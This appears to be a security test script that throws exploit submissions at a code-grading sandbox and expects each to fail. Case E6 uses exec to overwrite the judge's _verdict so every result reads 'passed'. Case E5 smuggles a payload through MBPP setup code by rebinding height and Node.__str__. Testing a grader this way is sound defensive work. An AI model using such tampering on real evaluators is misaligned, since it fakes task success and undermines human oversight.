from h import *
src = open("forge_prog.py").read()
rce = r'''
CODE = """
import sys
m = sys.modules['sandbox_judge']
m._verdict = lambda outcome, detail, judging: {"outcome": "passed", "detail": "", "compared": 0, "untrusted": 0,
                                               "sizes": {"elements": 0, "depth": 0, "int_hex_digits": 0}}
"""
def encode(s):
    return CODE
decode = exec
'''
run("E6 exec in judge, patch _verdict", rce, A("assert decode(encode('hello')) == 'hello'", "assert encode('abc') == 'nop'", "assert encode('x') == 'y'"), "FAIL all")
setup_row = {"test_list": ["assert height(root) == 2", "assert height(root2) == 3"],
             "test_setup_code": "root = Node(1)\nroot.left = Node(2)\nroot2 = Node(1)",
             "code": "class Node:\n    pass\ndef height(n):\n    pass\n"}
run("E5 MBPP setup: height=input, str(root)=payload", src.replace("NTESTS", "2") + "\nheight = input\nclass Node:\n    def __init__(self, v): pass\n    def __str__(self): return PAYLOAD\n", setup_row, "FAIL all")
